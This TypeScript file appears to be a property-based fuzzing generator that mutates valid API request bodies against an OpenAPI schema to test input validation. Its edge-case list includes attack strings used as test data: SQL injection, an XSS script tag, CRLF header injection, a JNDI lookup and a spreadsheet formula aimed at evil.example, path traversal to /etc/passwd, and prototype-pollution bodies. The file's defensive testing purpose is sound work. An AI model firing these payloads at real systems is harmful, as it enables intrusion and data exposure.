import fc from 'fast-check';
import type { Schema } from './openapi-operations';

/** What a generated request does to an otherwise valid one; coverage is counted per kind. */
export const MUTATION_KINDS = [
  'valid',
  'broken-field',
  'missing-field',
  'extra-property',
  'wrong-type',
  'boundary-number',
  'unicode-edge',
  'malformed-body',
  'unexpected-body',
  'headers',
  'path-param',
  'query',
] as const;
export type MutationKind = (typeof MUTATION_KINDS)[number];

export const UNICODE_EDGES: readonly string[] = [
  '\uD800',
  '\uDFFF\uD800',
  'a\u0000b',
  '\u0007bell',
  '\u202Eevil',
  '\u2066isolate\u2069',
  '\uFEFFbom',
  '\u200B',
  'e\u0301',
  '😀'.repeat(30),
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'Ω≈ç√∫',
  '\r\nX-Injected: 1',
  '\t',
  ' ',
  '',
  "' OR 1=1 --",
  "'; DROP TABLE events; --",
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example")',
  '${jndi:ldap://evil.example/a}',
  '../../etc/passwd',
  '%00',
  '__proto__',
];

const BOUNDARY_NUMBERS: readonly unknown[] = [
  0,
  -0,
  -1,
  1.5,
  0.1,
  2 ** 31,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 53),
  1e21,
  1e308,
  Number.MIN_VALUE,
  -1e-7,
];

const MONEY_EDGES: readonly string[] = [
  '-1',
  '-0.01',
  '1.234',
  '0.001',
  '1e5',
  '1,000',
  ' 100',
  '100 ',
  '01',
  '+5',
  '0x10',
  'NaN',
  'Infinity',
  '999999999999.99',
  '999999999999.999',
  '1000000000000',
  '1000000000000.00',
  '.5',
  '5.',
  '١٢٣',
];

const PROTOTYPE_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
];

const RAW_BODIES: readonly string[] = [
  '',
  '{',
  '{"a":',
  '}',
  '[',
  '{"a":1,}',
  "{'a':1}",
  '\uFEFF{}',
  '{"x":"\\ud800"}',
  '{"x":"\\u0000"}',
  '1e99999',
  '123456789012345678901234567890',
  '{"a":' + '['.repeat(5000) + ']'.repeat(5000) + '}',
  '<?xml version="1.0"?><a/>',
  'a=1&b=2',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
];

const NON_OBJECT_BODIES: readonly unknown[] = [null, [], [{}], 'text', 42, true, {}];

type Path = readonly (string | number)[];

/** Paths to every field in a body, nested objects and array items included. */
function fieldPaths(value: unknown, prefix: Path = [], depth = 0): Path[] {
  if (depth > 4 || value === null || typeof value !== 'object') return [];
  const entries: [string | number, unknown][] = Array.isArray(value)
    ? value.map((inner, index) => [index, inner])
    : Object.entries(value);
  return entries.flatMap(([key, inner]) => [
    [...prefix, key],
    ...fieldPaths(inner, [...prefix, key], depth + 1),
  ]);
}

function clone<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T;
}

/** Sets (or with `undefined`, deletes) a nested field; own properties only, so `__proto__` is data. */
function withField(body: unknown, path: Path, value: unknown): unknown {
  const copy = clone(body) as Record<string | number, unknown>;
  let target = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) target = target[key] as Record<string | number, unknown>;
  const last = path[path.length - 1];
  if (value === undefined) {
    if (Array.isArray(target)) target.splice(Number(last), 1);
    else delete target[last];
  } else
    Object.defineProperty(target, last, {
      value,
      enumerable: true,
      writable: true,
      configurable: true,
    });
  return copy;
}

function schemaAt(schema: Schema | null, path: Path): Schema | undefined {
  let current: Schema | undefined = schema ?? undefined;
  for (const key of path) {
    if (!current) return undefined;
    if (typeof key === 'number') current = current.items;
    else if (current.oneOf)
      current = current.oneOf.map((inner) => inner.properties?.[key]).find(Boolean);
    else current = current.properties?.[key];
  }
  return current;
}

const ANY_JSON = fc.jsonValue({ maxDepth: 2 });

/** A value of another JSON type than the field's. */
function wrongTypeFor(schema: Schema | undefined, current: unknown): fc.Arbitrary<unknown> {
  const type = schema?.type ?? (Array.isArray(current) ? 'array' : typeof current);
  const all: unknown[] = ['5', 5, 5.5, true, null, [], ['x'], { a: 1 }, {}];
  return fc.constantFrom(
    ...all.filter((value) => {
      if (value === null) return !schema?.nullable;
      if (Array.isArray(value)) return type !== 'array';
      if (typeof value === 'object') return type !== 'object';
      if (typeof value === 'number') return type !== 'number' && type !== 'integer';
      return typeof value !== type;
    }),
  );
}

function brokenFor(schema: Schema | undefined): fc.Arbitrary<unknown> {
  const options: fc.Arbitrary<unknown>[] = [ANY_JSON, fc.constantFrom(...UNICODE_EDGES)];
  if (schema?.pattern || schema?.type === 'string') options.push(fc.constantFrom(...MONEY_EDGES));
  if (schema?.enum)
    options.push(fc.constantFrom('', 'APPROVED', `${String(schema.enum[0])} `, 'other-value'));
  if (schema?.maxLength !== undefined)
    options.push(
      fc.constantFrom('x'.repeat(schema.maxLength + 1), 'é'.repeat(schema.maxLength + 1)),
    );
  if (schema?.minimum !== undefined || schema?.maximum !== undefined)
    options.push(
      fc.constantFrom(
        ...[schema.minimum, schema.maximum]
          .filter((bound): bound is number => bound !== undefined)
          .flatMap((bound) => [bound - 1, bound + 1, bound - 0.5, bound + 0.5]),
      ),
    );
  return fc.oneof(...options);
}

function boundaryFor(schema: Schema | undefined): fc.Arbitrary<unknown> {
  const bounds = [schema?.minimum, schema?.maximum].filter(
    (bound): bound is number => bound !== undefined,
  );
  return fc.oneof(
    fc.constantFrom(...BOUNDARY_NUMBERS),
    ...(bounds.length > 0 ? [fc.constantFrom(...bounds.flatMap((b) => [b, b - 1, b + 1]))] : []),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.integer(),
  );
}

const unicodeText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...UNICODE_EDGES) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-composite', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('A', 'é', '😀', '\u0000'), fc.integer({ min: 190, max: 5100 }))
      .map(([unit, times]) => unit.repeat(times)),
  },
);

const extraKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...PROTOTYPE_KEYS, 'actor', 'id', 'version', 'position', 'status', 'roles', ''),
  fc.string({ minLength: 1, maxLength: 12 }),
);

/** A body with one thing done to it, as JSON text, and which kind of thing that was. */
export function mutatedBody(
  schema: Schema | null,
  valid: unknown,
): fc.Arbitrary<{ kind: MutationKind; body: string | undefined }> {
  const json = (value: unknown) => JSON.stringify(value) ?? 'null';
  if (schema === null) {
    return fc.oneof(
      { weight: 3, arbitrary: fc.constant({ kind: 'valid' as MutationKind, body: undefined }) },
      {
        weight: 2,
        arbitrary: fc
          .oneof(
            fc.constantFrom<unknown>({}, { status: 'approved', approvedAmount: '50000.00' }),
            fc.dictionary(extraKey, ANY_JSON, { minKeys: 1, maxKeys: 3 }),
          )
          .map((body) => ({ kind: 'unexpected-body' as MutationKind, body: json(body) })),
      },
      {
        weight: 1,
        arbitrary: fc
          .constantFrom(...RAW_BODIES)
          .map((body) => ({ kind: 'malformed-body' as MutationKind, body })),
      },
    );
  }
  const paths = fieldPaths(valid);
  const stringPaths = paths.filter((path) => typeof pathValue(valid, path) === 'string');
  const numberPaths = paths.filter((path) => typeof pathValue(valid, path) === 'number');
  const objectPaths: Path[] = [
    [],
    ...paths.filter((path) => isPlainObject(pathValue(valid, path))),
  ];
  const requiredPaths = requiredFieldPaths(schema, valid);
  const pick = <T>(list: readonly T[]) => fc.constantFrom(...list);
  const kinds: {
    weight: number;
    arbitrary: fc.Arbitrary<{ kind: MutationKind; body: string | undefined }>;
  }[] = [
    { weight: 8, arbitrary: fc.constant({ kind: 'valid' as MutationKind, body: json(valid) }) },
    {
      weight: 1,
      arbitrary: fc.tuple(pick(objectPaths), extraKey, ANY_JSON).map(([path, key, value]) => ({
        kind: 'extra-property' as MutationKind,
        body: json(withField(valid, [...path, key], value)),
      })),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(...RAW_BODIES, ...NON_OBJECT_BODIES.map((value) => json(value)))
        .map((body) => ({ kind: 'malformed-body' as MutationKind, body })),
    },
  ];
  if (paths.length > 0) {
    kinds.push(
      {
        weight: 3,
        arbitrary: pick(paths).chain((path) =>
          brokenFor(schemaAt(schema, path)).map((value) => ({
            kind: 'broken-field' as MutationKind,
            body: json(withField(valid, path, value)),
          })),
        ),
      },
      {
        weight: 2,
        arbitrary: pick(paths).chain((path) =>
          wrongTypeFor(schemaAt(schema, path), pathValue(valid, path)).map((value) => ({
            kind: 'wrong-type' as MutationKind,
            body: json(withField(valid, path, value)),
          })),
        ),
      },
    );
  }
  if (requiredPaths.length > 0)
    kinds.push({
      weight: 1,
      arbitrary: pick(requiredPaths).map((path) => ({
        kind: 'missing-field' as MutationKind,
        body: json(withField(valid, path, undefined)),
      })),
    });
  if (numberPaths.length > 0 || paths.length > 0)
    kinds.push({
      weight: 2,
      arbitrary: pick(numberPaths.length > 0 ? numberPaths : paths).chain((path) =>
        boundaryFor(schemaAt(schema, path)).map((value) => ({
          kind: 'boundary-number' as MutationKind,
          body: json(withField(valid, path, value)),
        })),
      ),
    });
  if (stringPaths.length > 0)
    kinds.push({
      weight: 2,
      arbitrary: fc.tuple(pick(stringPaths), unicodeText).map(([path, text]) => ({
        kind: 'unicode-edge' as MutationKind,
        body: json(withField(valid, path, text)),
      })),
    });
  return fc.oneof(...kinds);
}

function pathValue(value: unknown, path: Path): unknown {
  let current = value as Record<string | number, unknown> | undefined;
  for (const key of path) current = current?.[key] as Record<string | number, unknown> | undefined;
  return current;
}

const isPlainObject = (value: unknown) =>
  value !== null && typeof value === 'object' && !Array.isArray(value);

function requiredFieldPaths(schema: Schema, valid: unknown): Path[] {
  const variant =
    schema.oneOf?.find((candidate) =>
      Object.entries(candidate.properties ?? {}).every(
        ([name, property]) =>
          !property.enum ||
          (valid as Record<string, unknown>)?.[name] === undefined ||
          property.enum.includes((valid as Record<string, unknown>)[name]),
      ),
    ) ?? schema;
  return (variant.required ?? [])
    .filter((name) => isPlainObject(valid) && name in (valid as object))
    .map((name) => [name]);
}
